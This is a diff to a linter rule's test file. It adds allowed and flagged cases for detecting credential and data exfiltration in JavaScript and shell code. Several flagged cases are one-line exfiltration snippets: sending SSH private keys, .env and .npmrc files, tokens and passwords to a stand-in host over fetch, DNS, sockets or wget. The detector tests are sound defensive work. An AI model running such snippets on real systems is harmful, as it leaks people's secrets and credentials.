@@ -3,6 +3,17 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    // protocols that ask for the sender's host name
+    { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.hostname()}\\r\\n`); socket.write("HELO " + os.hostname() + "\\r\\n");' },
+    { code: 'import net from "node:net"; import os from "node:os"; class Mailer { constructor() { this.name = os.hostname(); this.socket = net.connect(25, "mx"); this.socket.once("data", () => this.send("EHLO " + this.name)); } send(line) { this.socket.write(Buffer.from(line + "\\r\\n")); } }' },
+    { code: 'import dgram from "node:dgram"; import os from "node:os"; const socket = dgram.createSocket("udp4"); socket.send(`<14>1 ${new Date().toISOString()} ${os.hostname()} app - - ${text}`, 514, server); socket.send(`<${level}>1 ${time} ${os.hostname()} app`, 514, server);' },
+    { code: 'import tls from "node:tls"; import os from "node:os"; class Session { constructor(raw) { this.name = os.hostname(); this.socket = new tls.TLSSocket(raw, { isServer: true }); this.socket.write(`220 ${this.name} ESMTP\\r\\n`); } }' },
+    // the key of an interface, to it; a helper that reads one variable or another
+    { code: 'const find = (apiKey, q) => fetch(`https://www.search-things.dev/api/v1/search?q=${q}&api_key=${apiKey}`);' },
+    { code: 'const open = (googleApiKey) => new WebSocket(`wss://generativelanguage.googleapis.com/ws/live?key=${googleApiKey}`);' },
+    { code: 'import dns from "node:dns"; const read = (key) => process.env["DB_" + key.toUpperCase()]; const settings = { host: read("host"), user: read("user"), password: read("password") }; dns.lookup(settings.host, done);' },
+    { code: 'const read = (name) => process.env[name]; const url = read("COLLECTOR_URL"); fetch(url + "/" + read("REGION"), { headers: { authorization: read("COLLECTOR_TOKEN") } });' },
+    { code: 'wget -O tool.tgz https://scan.coverity.com/download/linux64 --post-data "project=app&token=$COVERITY_TOKEN"', filename: 'ci.sh' },
     { code: 'app.get("/x", async (req, res) => { await fetch("https://api.example-service.com/introspect", { method: "POST", headers: { authorization: req.headers.authorization }, body: JSON.stringify({ token: req.headers.authorization }) }); });' },
     { code: 'import dns from "node:dns/promises"; await dns.lookup(process.env.DB_HOST ?? "localhost"); await dns.lookup(`${process.env.REGION ?? ""}.example-service.com`);' },
     { code: "import fs from 'node:fs'; import dotenv from 'dotenv'; const config = dotenv.parse(fs.readFileSync('.env')); fetch('https://api.example-service.com', { headers: { authorization: `Bearer ${config.API_KEY}` } });" },
@@ -96,6 +107,14 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`HI ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
+    { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.userInfo().username}\\r\\n`);', errors: [{ messageId: 'sent' }] },
+    { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO a ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
+    { code: 'import tls from "node:tls"; import os from "node:os"; const socket = new tls.TLSSocket(raw); socket.write(os.userInfo().username);', errors: [{ messageId: 'sent' }] },
+    { code: 'const find = (apiKey) => fetch(`https://t.example-service.com/collect?k=${apiKey}`);', errors: [{ messageId: 'credential' }] },
+    { code: 'import dns from "node:dns"; const read = (key) => process.env["DB_" + key]; const a = read("HOST"); dns.lookup(read("PASSWORD") + ".t.example-service.com", done);', errors: [{ messageId: 'dns' }] },
+    { code: 'const read = (name) => process.env[name]; read("HOME"); fetch("https://t.example-service.com/x", { method: "POST", body: btoa(read("NPM_TOKEN")) });', errors: [{ messageId: 'encoded' }] },
+    { code: 'wget https://scan.coverity.com.example-service.com/download/linux64 --post-data "project=app&token=$COVERITY_TOKEN"', filename: 'ci.sh', errors: [{ messageId: 'sent' }] },
     { code: "import fs from 'node:fs'; fetch('https://api.example-service.com', { headers: { 'x-data': fs.readFileSync('/root/.ssh/id_rsa', 'utf8') } });", errors: [{ messageId: 'sent' }] },
     { code: "import { promises as fs } from 'node:fs'; const all = await Promise.all(['.env', '.npmrc'].map((file) => fs.readFile(file, 'utf8'))); await fetch('https://t.example-service.com', { method: 'POST', body: all.join() });", errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "fs"; fetch("https://api.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', errors: [{ messageId: 'sent', line: 1, column: 87, endLine: 1, endColumn: 110 }] },
